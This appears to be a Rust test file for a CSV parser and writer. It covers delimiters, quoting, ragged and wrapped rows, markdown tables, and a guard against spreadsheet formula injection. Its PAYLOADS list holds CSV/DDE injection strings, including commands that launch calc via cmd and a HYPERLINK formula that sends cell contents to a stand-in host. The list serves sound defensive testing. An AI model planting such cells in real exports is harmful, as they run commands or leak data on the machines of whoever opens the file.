//! CSV as it is found in the wild, and CSV as we write it.

use super::*;

fn cells(table: &Table) -> Vec<Vec<String>> {
    let rows = (0..table.len()).map(|row| table.row(row).map(str::to_owned).collect());
    std::iter::once(table.headers.clone()).chain(rows).collect()
}

#[track_caller]
fn is_read(text: &str, expected: &[&[&str]]) -> Vec<Note> {
    let (table, notes) = read(text).unwrap();
    assert_eq!(cells(&table), expected, "{text}");
    notes
}

fn lines(lines: &[u64]) -> Lines {
    lines.iter().copied().collect()
}

#[test]
fn whatever_stands_between_cells_is_found_out() {
    let expected: &[&[&str]] = &[&["name", "city"], &["Acme, Inc.", "Paris"]];
    for text in [
        "name,city\n\"Acme, Inc.\",Paris\n",
        "name;city\nAcme, Inc.;Paris\n",
        "name\tcity\r\nAcme, Inc.\tParis\r\n",
        "name|city\nAcme, Inc.|Paris\n",
        "sep=|\nname|city\nAcme, Inc.|Paris",
        "name,city\r\"Acme, Inc.\",Paris\r",
    ] {
        assert_eq!(is_read(text, expected), []);
    }
}

#[test]
fn decimal_commas_and_lists_within_cells_do_not_mislead() {
    is_read("name;price\nA;1,5\nB;2,5\n", &[&["name", "price"], &["A", "1,5"], &["B", "2,5"]]);
    is_read("tags,x\n\"a;b;c\",1\n\"d;e;f\",2\n", &[&["tags", "x"], &["a;b;c", "1"], &["d;e;f", "2"]]);
    is_read("a,b\n5\" disk,1\n", &[&["a", "b"], &["5\" disk", "1"]]);
}

#[test]
fn quoted_lines_and_quotation_marks_stay_in_their_cell() {
    let expected: &[&[&str]] = &[&["a", "b"], &["one\ntwo", "say \"hi\""]];
    assert_eq!(is_read("a,b\n\"one\ntwo\",\"say \"\"hi\"\"\"\n", expected), []);
}

#[test]
fn rows_keep_the_line_on_which_they_begin() {
    let (table, _) = read("a,b,\n1,2,\n\n,,\n\n3,\"4\n4\",\n5,6\n").unwrap();
    assert_eq!(table.headers, ["a", "b"]);
    assert_eq!((0..table.len()).map(|row| table.line(row)).collect::<Vec<_>>(), [2, 6, 8]);
    assert_eq!(read("sep=;\na;b\n1;2\n").unwrap().0.line(0), 3);
}

#[test]
fn ragged_rows_are_told_by_line() {
    let notes = is_read("a,b\n1,2\n1,2,3\n1\n", &[&["a", "b"], &["1", "2"], &["1", "2", "3"], &["1"]]);
    assert_eq!(notes, [Note::ShortRows(lines(&[4])), Note::LongRows(lines(&[3]))]);
}

#[test]
fn a_file_wrapped_in_quotation_marks_is_unwrapped() {
    let text = "\"name,city,note\"\n\"Acme,Paris,\"\"a, b\"\"\"\n\"Beta,Rome,\"\n";
    let expected: &[&[&str]] = &[&["name", "city", "note"], &["Acme", "Paris", "a, b"], &["Beta", "Rome", ""]];
    assert_eq!(is_read(text, expected), [Note::Unwrapped(lines(&[1, 2, 3]))]);
    let semicolons = "\"name;city\"\n\"Acme;Paris\"\n";
    assert_eq!(is_read(semicolons, &[&["name", "city"], &["Acme", "Paris"]]), [Note::Unwrapped(lines(&[1, 2]))]);
}

#[test]
fn single_wrapped_rows_are_unwrapped_where_that_is_certain() {
    let text = "a,b,c\n1,2,3\n\"4,5,6\"\n7,8,9\n";
    let notes = is_read(text, &[&["a", "b", "c"], &["1", "2", "3"], &["4", "5", "6"], &["7", "8", "9"]]);
    assert_eq!(notes, [Note::Unwrapped(lines(&[3]))]);
    let doubtful = "name,city\nA,Paris\n\"Acme, Inc.\"\nB,Rome\n";
    let notes = is_read(doubtful, &[&["name", "city"], &["A", "Paris"], &["Acme, Inc."], &["B", "Rome"]]);
    assert_eq!(notes, [Note::MaybeWrapped(lines(&[3])), Note::ShortRows(lines(&[3]))]);
}

#[test]
fn a_quotation_mark_that_is_never_closed_is_told() {
    let (table, notes) = read("a,b\n1,2\n3,\"4\n5,6\n").unwrap();
    assert_eq!(table.len(), 2);
    assert_eq!(notes, [Note::OpenQuote { line: 3 }]);
}

#[test]
fn rows_copied_out_of_a_spreadsheet_are_read() {
    let text = "客户\t备注\n星云仪器\t\"第一行\n第二行\"\n";
    assert_eq!(is_read(text, &[&["客户", "备注"], &["星云仪器", "第一行\n第二行"]]), []);
}

#[test]
fn a_table_of_markdown_is_read() {
    let expected: &[&[&str]] = &[&["Name", "City"], &["Acme | Sons", "Paris"], &["Beta", ""]];
    assert_eq!(is_read("| Name | City |\n|:-----|------|\n| Acme \\| Sons | Paris |\n| Beta | |\n", expected), []);
    assert_eq!(is_read("Our list:\n\nName | City\n--- | ---\nAcme \\| Sons | Paris\nBeta | |\n\nEnd.", expected), []);
}

#[test]
fn text_without_rows_is_refused() {
    for text in ["", "\n\n", "name,city\n", "name,city"] {
        assert_eq!(read(text), Err(FileError::Empty), "{text:?}");
    }
}

#[test]
fn what_is_written_is_read_back_and_opens_without_harm() {
    let rows: Vec<Vec<&str>> = vec![
        vec!["name", "phone"],
        vec!["=1+1", "+86 138 0000 0000"],
        vec!["Acme, \"Inc\"", "-5"],
        vec!["'=2", " padded "],
    ];
    let text = write(rows.clone(), true);
    assert_eq!(
        text,
        "\u{feff}name,phone\r\n'=1+1,+86 138 0000 0000\r\n\"Acme, \"\"Inc\"\"\",-5\r\n''=2,\" padded \"\r\n"
    );
    let (table, notes) = read(text.trim_start_matches('\u{feff}')).unwrap();
    assert_eq!(cells(&table), rows);
    assert_eq!(notes, []);
}

#[test]
fn a_single_column_is_not_taken_for_wrapped_rows() {
    let rows = [["Last, First"], ["Li, Na"], ["Wang, Wei"], ["sep=;"]];
    let (table, notes) = read(&write(rows, false)).unwrap();
    assert_eq!(cells(&table)[0], ["Last, First"]);
    assert_eq!((table.cell(0, 0), table.cell(2, 0), notes), ("Li, Na", "sep=;", vec![]));
}

/// The payloads of the collection that the guard was made against, written anew: (cell, is a formula).
const PAYLOADS: [(&str, bool); 36] = [
    ("=1+1", true),
    ("-1+1", true),
    ("+1+1", true),
    ("@A3", true),
    ("@SUM(1+1)*cmd|' /C calc'!A0", true),
    ("=cmd|' /C calc'!A0", true),
    ("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点击\")", true),
    ("\t=1+1", true),
    ("\r=1+1", true),
    ("\n=1+1", true),
    (" =1+1", true),
    ("＝1+1", true),
    ("＋1+1", true),
    ("＋1", true),
    ("－5", true),
    ("%1", true),
    ("|1+1", true),
    ("DDE (\"cmd\";\"/C calc\";\"!A0\")A0", true),
    ("=", true),
    ("-A1", true),
    ("+cmd|' /C calc'!A0", true),
    ("+86 138 0000 0000", false),
    ("+86-139-0000-0000", false),
    ("+1 (212) 555-0100", false),
    ("-5", false),
    ("-5%", false),
    ("-¥5.00", false),
    ("-1,234.56", false),
    ("−5", false),
    ("@张三", false),
    ("O'Brien", false),
    ("'O Sole Mio", false),
    ("-", false),
    ("--", false),
    ("Dde & Sons (Ltd)", false),
    ("a=b", false),
];

#[test]
fn formulas_are_guarded_and_what_only_looks_alike_is_not() {
    for (cell, is_formula) in PAYLOADS {
        assert_eq!(guard(cell) != cell, is_formula, "{cell:?}");
        assert_eq!(unguard(&guard(cell)), cell, "{cell:?}");
        let again = guard(cell).into_owned();
        assert_eq!(unguard(&guard(&again)), again, "apostrophes do not pile up: {cell:?}");
    }
}
